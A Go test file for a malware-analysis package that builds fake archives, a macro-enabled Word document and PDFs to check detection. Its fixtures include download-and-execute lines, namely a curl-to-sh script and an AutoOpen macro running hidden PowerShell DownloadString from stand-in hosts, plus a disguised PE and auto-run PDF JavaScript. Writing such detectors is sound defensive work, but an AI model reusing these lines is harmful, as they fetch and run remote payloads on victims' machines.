@@ -0,0 +1,468 @@
+package fileanalysis
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"context"
+	"encoding/binary"
+	"strings"
+	"testing"
+
+	"net-zilla/internal/models"
+	"net-zilla/pkg/logger"
+)
+
+type testFile struct {
+	name string
+	data []byte
+}
+
+func buildZip(t *testing.T, files ...testFile) []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for _, f := range files {
+		w, err := zw.Create(f.name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write(f.data)
+	}
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+func buildTarGz(t *testing.T, files ...testFile) []byte {
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, f := range files {
+		tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o644, Size: int64(len(f.data)), Typeflag: tar.TypeReg})
+		tw.Write(f.data)
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	gz.Close()
+	return buf.Bytes()
+}
+
+// compressVBA encodes data as a single [MS-OVBA] chunk of literals.
+func compressVBA(t *testing.T, data []byte) []byte {
+	var chunk []byte
+	for i := 0; i < len(data); i += 8 {
+		end := i + 8
+		if end > len(data) {
+			end = len(data)
+		}
+		chunk = append(chunk, 0x00)
+		chunk = append(chunk, data[i:end]...)
+	}
+	if len(chunk)+2 > 4098 {
+		t.Fatal("test source too long for one chunk")
+	}
+	out := []byte{0x01, 0, 0}
+	binary.LittleEndian.PutUint16(out[1:], 0xb000|uint16(len(chunk)+2-3))
+	return append(out, chunk...)
+}
+
+// buildVBAProject writes a minimal compound file holding a VBA storage with a
+// dir stream and one stream per module, all in the mini stream.
+func buildVBAProject(t *testing.T, modules map[string]string) []byte {
+	type stream struct {
+		name string
+		data []byte
+	}
+	var dir bytes.Buffer
+	record := func(id uint16, data []byte) {
+		binary.Write(&dir, binary.LittleEndian, id)
+		binary.Write(&dir, binary.LittleEndian, uint32(len(data)))
+		dir.Write(data)
+	}
+	// PROJECTVERSION declares 4 bytes but carries 6.
+	binary.Write(&dir, binary.LittleEndian, uint16(0x0009))
+	binary.Write(&dir, binary.LittleEndian, uint32(4))
+	dir.Write([]byte{1, 0, 0, 0, 2, 0})
+	record(0x000f, []byte{byte(len(modules)), 0})
+
+	streams := []stream{{name: "dir"}}
+	for name, source := range modules {
+		const offset = 10
+		record(0x0019, []byte(name))
+		record(0x001a, []byte(name))
+		record(0x0031, binary.LittleEndian.AppendUint32(nil, offset))
+		record(0x002b, nil)
+		streams = append(streams, stream{name: name, data: append(make([]byte, offset), compressVBA(t, []byte(source))...)})
+	}
+	record(0x0010, nil)
+	streams[0].data = compressVBA(t, dir.Bytes())
+
+	const ss = 512
+	var mini []byte
+	var miniFAT []uint32
+	starts := make([]uint32, len(streams))
+	for i, s := range streams {
+		starts[i] = uint32(len(mini) / 64)
+		n := (len(s.data) + 63) / 64
+		for j := 0; j < n; j++ {
+			next := uint32(len(miniFAT) + 1)
+			if j == n-1 {
+				next = oleEndOfChain
+			}
+			miniFAT = append(miniFAT, next)
+		}
+		mini = append(mini, s.data...)
+		mini = append(mini, make([]byte, n*64-len(s.data))...)
+	}
+	miniSectors := (len(mini) + ss - 1) / ss
+	mini = append(mini, make([]byte, miniSectors*ss-len(mini))...)
+
+	entries := 2 + len(streams)
+	dirSectors := (entries*oleDirEntry + ss - 1) / ss
+	// Sector layout: FAT, directory, mini FAT, mini stream.
+	fat := []uint32{0xfffffffd}
+	for i := 0; i < dirSectors; i++ {
+		fat = append(fat, uint32(len(fat)+1))
+	}
+	fat[len(fat)-1] = oleEndOfChain
+	miniFATSector := uint32(len(fat))
+	fat = append(fat, oleEndOfChain)
+	miniStart := uint32(len(fat))
+	for i := 0; i < miniSectors; i++ {
+		fat = append(fat, uint32(len(fat)+1))
+	}
+	fat[len(fat)-1] = oleEndOfChain
+
+	le := binary.LittleEndian
+	header := make([]byte, ss)
+	copy(header, oleSignature)
+	le.PutUint16(header[0x18:], 0x3e)
+	le.PutUint16(header[0x1a:], 3)
+	le.PutUint16(header[0x1c:], 0xfffe)
+	le.PutUint16(header[0x1e:], 9)
+	le.PutUint16(header[0x20:], 6)
+	le.PutUint32(header[0x2c:], 1)
+	le.PutUint32(header[0x30:], 1)
+	le.PutUint32(header[0x38:], 4096)
+	le.PutUint32(header[0x3c:], miniFATSector)
+	le.PutUint32(header[0x40:], 1)
+	le.PutUint32(header[0x44:], oleEndOfChain)
+	for i := 0; i < 109; i++ {
+		le.PutUint32(header[0x4c+4*i:], oleNoStream)
+	}
+	le.PutUint32(header[0x4c:], 0)
+
+	sectorOf := func(words []uint32) []byte {
+		b := make([]byte, ss)
+		for i := range b {
+			b[i] = 0xff
+		}
+		for i, w := range words {
+			le.PutUint32(b[4*i:], w)
+		}
+		return b
+	}
+	entry := func(name string, typ byte, left, right, child, start uint32, size int) []byte {
+		b := make([]byte, oleDirEntry)
+		units := []rune(name)
+		for i, r := range units {
+			le.PutUint16(b[2*i:], uint16(r))
+		}
+		le.PutUint16(b[64:], uint16(2*len(units)+2))
+		b[66] = typ
+		le.PutUint32(b[68:], left)
+		le.PutUint32(b[72:], right)
+		le.PutUint32(b[76:], child)
+		le.PutUint32(b[116:], start)
+		le.PutUint64(b[120:], uint64(size))
+		return b
+	}
+
+	var dirData []byte
+	dirData = append(dirData, entry("Root Entry", oleTypeRoot, oleNoStream, oleNoStream, 1, miniStart, len(mini))...)
+	dirData = append(dirData, entry("VBA", oleTypeStorage, oleNoStream, oleNoStream, 2, 0, 0)...)
+	for i, s := range streams {
+		right := uint32(oleNoStream)
+		if i < len(streams)-1 {
+			right = uint32(3 + i)
+		}
+		dirData = append(dirData, entry(s.name, oleTypeStream, oleNoStream, right, oleNoStream, starts[i], len(s.data))...)
+	}
+	dirData = append(dirData, make([]byte, dirSectors*ss-len(dirData))...)
+
+	out := append(header, sectorOf(fat)...)
+	out = append(out, dirData...)
+	out = append(out, sectorOf(miniFAT)...)
+	return append(out, mini...)
+}
+
+func memberByPath(r *models.FileAnalysis, p string) *models.FileMember {
+	for _, m := range r.Members {
+		if m.Path == p {
+			return m
+		}
+	}
+	return nil
+}
+
+func hasRule(m *models.FileMember, rule string) bool {
+	for _, match := range m.YaraMatches {
+		if match.Rule == rule {
+			return true
+		}
+	}
+	return false
+}
+
+func containsString(list []string, s string) bool {
+	for _, v := range list {
+		if v == s {
+			return true
+		}
+	}
+	return false
+}
+
+func TestAnalyzer_Archive(t *testing.T) {
+	pe := append([]byte("MZ\x90\x00"), []byte(strings.Repeat("\x00", 60)+"This program cannot be run in DOS mode.")...)
+	inner := buildTarGz(t, testFile{"deep/payload.sh", []byte("#!/bin/sh\ncurl -s http://203.0.113.9/stage2 | sh\n")})
+	archive := buildZip(t,
+		testFile{"readme.txt", []byte("Open the invoice at hxxps://billing-portal[.]example/login")},
+		testFile{"scripts/run.js", []byte("var x = new ActiveXObject('MSXML2.XMLHTTP'); var s = new ActiveXObject('WScript.Shell');\neval(atob('W21hbGljaW91cyBjb2RlXQ=='))")},
+		testFile{"inner.tar.gz", inner},
+		testFile{"invoice.pdf", pe},
+	)
+
+	res, err := NewAnalyzer(logger.New()).Analyze(context.Background(), "C:\\Users\\x\\sample.zip", archive)
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+	if res.FileName != "sample.zip" || res.Type != TypeZIP || len(res.Hashes["SHA256"]) != 64 {
+		t.Errorf("root = %s %s %v", res.FileName, res.Type, res.Hashes)
+	}
+
+	wantTypes := map[string]string{
+		"sample.zip":                                        TypeZIP,
+		"sample.zip!readme.txt":                             TypeText,
+		"sample.zip!scripts/run.js":                         TypeScript,
+		"sample.zip!inner.tar.gz":                           TypeGZIP,
+		"sample.zip!inner.tar.gz!inner.tar":                 TypeTAR,
+		"sample.zip!inner.tar.gz!inner.tar!deep/payload.sh": TypeScript,
+		"sample.zip!invoice.pdf":                            TypePE,
+	}
+	for p, typ := range wantTypes {
+		m := memberByPath(res, p)
+		if m == nil {
+			t.Errorf("member %s missing", p)
+			continue
+		}
+		if m.Type != typ {
+			t.Errorf("%s type = %s, want %s", p, m.Type, typ)
+		}
+	}
+	if m := memberByPath(res, "sample.zip!inner.tar.gz!inner.tar!deep/payload.sh"); m != nil && m.Depth != 3 {
+		t.Errorf("payload depth = %d, want 3", m.Depth)
+	}
+
+	js := memberByPath(res, "sample.zip!scripts/run.js")
+	if js == nil || js.Behavior == nil || js.Behavior.RiskScore < 50 || !hasRule(js, "Script_Download_Execute") {
+		t.Errorf("script not flagged: %+v", js)
+	}
+	if pdf := memberByPath(res, "sample.zip!invoice.pdf"); pdf != nil && hasRule(pdf, "Embedded_PE_Executable") {
+		t.Error("Embedded_PE_Executable should not match a file that is itself a PE")
+	}
+
+	for _, u := range []string{"https://billing-portal.example/login", "http://203.0.113.9/stage2"} {
+		if !containsString(res.URLs, u) {
+			t.Errorf("URL %s missing from %q", u, res.URLs)
+		}
+	}
+	if !strings.Contains(strings.Join(res.Findings, "\n"), "disguised as a .pdf file") {
+		t.Errorf("disguised executable not reported: %q", res.Findings)
+	}
+	if res.RiskLevel != "CRITICAL" {
+		t.Errorf("RiskLevel = %s (%d)", res.RiskLevel, res.RiskScore)
+	}
+	if len(res.Warnings) != 0 {
+		t.Errorf("unexpected warnings: %q", res.Warnings)
+	}
+}
+
+func TestAnalyzer_OfficeMacros(t *testing.T) {
+	source := "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Shell \"powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://macro-c2.example/p')\"\r\nEnd Sub\r\n"
+	project := buildVBAProject(t, map[string]string{"Module1": source})
+	docm := buildZip(t,
+		testFile{"[Content_Types].xml", []byte(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)},
+		testFile{"word/document.xml", []byte(`<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`)},
+		testFile{"word/_rels/document.xml.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://phish.example/doc?a=1&amp;b=2" TargetMode="External"/></Relationships>`)},
+		testFile{"word/vbaProject.bin", project},
+	)
+
+	res, err := NewAnalyzer(logger.New()).Analyze(context.Background(), "report.docm", docm)
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+	if res.Type != TypeOOXML {
+		t.Errorf("Type = %s, want ooxml", res.Type)
+	}
+	if m := memberByPath(res, "report.docm!word/vbaProject.bin"); m == nil || m.Type != TypeOLE {
+		t.Fatalf("vbaProject.bin not found as OLE: %+v (warnings %q)", m, res.Warnings)
+	}
+	if len(res.Macros) != 1 {
+		t.Fatalf("got %d macros, want 1 (warnings %q)", len(res.Macros), res.Warnings)
+	}
+	macro := res.Macros[0]
+	if macro.Module != "Module1" || macro.Code != source || macro.Member != "report.docm!word/vbaProject.bin" {
+		t.Errorf("unexpected macro: %+v", macro)
+	}
+	if !containsString(macro.AutoExec, "AutoOpen") || !containsString(macro.Suspicious, "Shell") || !containsString(macro.Suspicious, "powershell") {
+		t.Errorf("macro signals: auto %q, suspicious %q", macro.AutoExec, macro.Suspicious)
+	}
+	vba := memberByPath(res, "report.docm!word/vbaProject.bin!Module1.vba")
+	if vba == nil || vba.Type != TypeVBA || !hasRule(vba, "PowerShell_Encoded_Command") {
+		t.Errorf("macro source not analyzed: %+v", vba)
+	}
+
+	if !containsString(res.URLs, "https://phish.example/doc?a=1&b=2") || !containsString(res.URLs, "http://macro-c2.example/p") {
+		t.Errorf("URLs = %q", res.URLs)
+	}
+	for _, u := range res.URLs {
+		if strings.Contains(u, "schemas.openxmlformats.org") {
+			t.Errorf("namespace URL reported: %s", u)
+		}
+	}
+	if res.RiskLevel != "CRITICAL" && res.RiskLevel != "HIGH" {
+		t.Errorf("RiskLevel = %s (%d), findings %q", res.RiskLevel, res.RiskScore, res.Findings)
+	}
+}
+
+func TestAnalyzer_PDF(t *testing.T) {
+	var stream bytes.Buffer
+	zw := zlib.NewWriter(&stream)
+	zw.Write([]byte("<< /S /URI /URI <68747470733a2f2f636f6d707265737365642e6578616d706c652f78> >>"))
+	zw.Close()
+
+	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n" +
+		"2 0 obj\n<< /Type /Annot /A << /S /URI /URI (https://pdf-link.example/a\\)) >> >>\nendobj\n" +
+		"3 0 obj\n<< /S /JavaScript /JS (app.launchURL\\(1\\)) >>\nendobj\n" +
+		"4 0 obj\n<< /Filter /FlateDecode >>\nstream\n" + stream.String() + "\nendstream\nendobj\n%%EOF\n")
+
+	res, err := NewAnalyzer(logger.New()).Analyze(context.Background(), "statement.pdf", pdf)
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+	if res.Type != TypePDF || len(res.Members) != 1 {
+		t.Errorf("Type = %s, %d members", res.Type, len(res.Members))
+	}
+	for _, u := range []string{"https://pdf-link.example/a", "https://compressed.example/x"} {
+		if !containsString(res.URLs, u) {
+			t.Errorf("URL %s missing from %q", u, res.URLs)
+		}
+	}
+	if !hasRule(res.Members[0], "PDF_Auto_JavaScript") {
+		t.Errorf("PDF auto action not matched: %+v", res.Members[0].YaraMatches)
+	}
+}
+
+func TestAnalyzer_Limits(t *testing.T) {
+	bomb := buildZip(t, testFile{"zeros.bin", make([]byte, 4<<20)}, testFile{"ok.txt", []byte("fine")})
+	a := NewAnalyzer(logger.New())
+
+	res, err := a.Analyze(context.Background(), "bomb.zip", bomb)
+	if err != nil {
+		t.Fatalf("Analyze: %v", err)
+	}
+	if memberByPath(res, "bomb.zip!zeros.bin") != nil || memberByPath(res, "bomb.zip!ok.txt") == nil {
+		t.Errorf("members = %d", len(res.Members))
+	}
+	if !strings.Contains(strings.Join(res.Warnings, "\n"), "compression ratio") {
+		t.Errorf("ratio limit not reported: %q", res.Warnings)
+	}
+	if !strings.Contains(strings.Join(res.Findings, "\n"), "zip bomb") {
+		t.Errorf("limit not scored: %q", res.Findings)
+	}
+
+	nested := buildZip(t, testFile{"l1.zip", buildZip(t, testFile{"l2.zip", buildZip(t, testFile{"deep.txt", []byte("x")})})})
+	limits := DefaultLimits()
+	limits.MaxDepth = 2
+	a.SetLimits(limits)
+	res, _ = a.Analyze(context.Background(), "nested.zip", nested)
+	if memberByPath(res, "nested.zip!l1.zip!l2.zip") == nil || memberByPath(res, "nested.zip!l1.zip!l2.zip!deep.txt") != nil {
+		t.Errorf("depth limit not applied: %d members", len(res.Members))
+	}
+
+	limits = DefaultLimits()
+	limits.MaxMembers = 3
+	a.SetLimits(limits)
+	many := buildZip(t, testFile{"1.txt", []byte("1")}, testFile{"2.txt", []byte("2")}, testFile{"3.txt", []byte("3")}, testFile{"4.txt", []byte("4")})
+	res, _ = a.Analyze(context.Background(), "many.zip", many)
+	if len(res.Members) != 3 || !strings.Contains(strings.Join(res.Warnings, "\n"), "more than 3 members") {
+		t.Errorf("member limit: %d members, warnings %q", len(res.Members), res.Warnings)
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	a.SetLimits(DefaultLimits())
+	res, _ = a.Analyze(ctx, "many.zip", many)
+	if len(res.Members) != 1 {
+		t.Errorf("canceled analysis unpacked %d members", len(res.Members))
+	}
+
+	if _, err := a.Analyze(context.Background(), "empty", nil); err == nil {
+		t.Error("expected an error for an empty file")
+	}
+}
+
+func TestDecompressVBA(t *testing.T) {
+	// Example from [MS-OVBA] 3.2.3.
+	compressed := []byte{
+		0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70,
+		0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F,
+		0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79,
+		0x7A, 0x00, 0x3C,
+	}
+	got, err := decompressVBA(compressed)
+	if err != nil {
+		t.Fatalf("decompressVBA: %v", err)
+	}
+	if want := "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"; string(got) != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+
+	for _, bad := range [][]byte{nil, {0x00, 0x01}, {0x01, 0x03, 0xb0, 0x01, 0x00, 0x10}} {
+		if _, err := decompressVBA(bad); err == nil {
+			t.Errorf("expected an error for % x", bad)
+		}
+	}
+}
+
+func TestDetectType(t *testing.T) {
+	tests := []struct {
+		name string
+		data string
+		want string
+	}{
+		{"a.bin", "\x1f\x8b\x08\x00", TypeGZIP},
+		{"a.doc", string(oleSignature) + "rest", TypeOLE},
+		{"a.pdf", "%PDF-1.4\n", TypePDF},
+		{"a.rtf", `{\rtf1\ansi`, TypeRTF},
+		{"a.elf", "\x7fELF\x02", TypeELF},
+		{"a.7z", "7z\xbc\xaf\x27\x1c\x00", Type7Z},
+		{"a.png", "\x89PNG\r\n\x1a\n", TypeImage},
+		{"run", "#!/bin/bash\necho hi", TypeScript},
+		{"a.vbs", "MsgBox 1", TypeScript},
+		{"page", "<!DOCTYPE html><html></html>", TypeHTML},
+		{"a.xml", "<?xml version=\"1.0\"?><a/>", TypeXML},
+		{"notes", "plain words", TypeText},
+		{"blob", "\x00\x01\x02\x03", TypeUnknown},
+	}
+	for _, tt := range tests {
+		if got := DetectType(tt.name, []byte(tt.data)); got != tt.want {
+			t.Errorf("DetectType(%s) = %s, want %s", tt.name, got, tt.want)
+		}
+	}
+}